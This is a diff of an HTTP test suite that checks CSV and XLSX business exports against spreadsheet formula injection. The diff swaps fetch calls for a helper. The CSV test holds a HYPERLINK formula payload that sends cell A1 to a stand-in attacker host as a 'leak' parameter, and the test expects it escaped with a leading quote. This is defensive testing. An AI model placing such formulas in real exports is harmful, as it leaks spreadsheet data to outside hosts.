@@ -17,14 +17,14 @@ describe('exports of text that looks like a formula, over HTTP', () => {
   afterAll(async () => api.stop());
 
   it('CSV: the project name starts with a quote, the amounts stay figures', async () => {
-    const res = await fetch(`${await api.app.getUrl()}/exports/business?format=csv`);
+    const res = await api.raw(`/exports/business?format=csv`);
     const [, line] = (await res.text()).split('\r\n');
     expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击"")",`);
     expect(line).toContain(',50000.00,');
   });
 
   it('XLSX: the project name is a string cell as it was entered, not a formula', async () => {
-    const res = await fetch(`${await api.app.getUrl()}/exports/business?format=xlsx`);
+    const res = await api.raw(`/exports/business?format=xlsx`);
     const book = new ExcelJS.Workbook();
     await book.xlsx.load((await res.arrayBuffer()) as never);
     const sheet = book.worksheets[0];
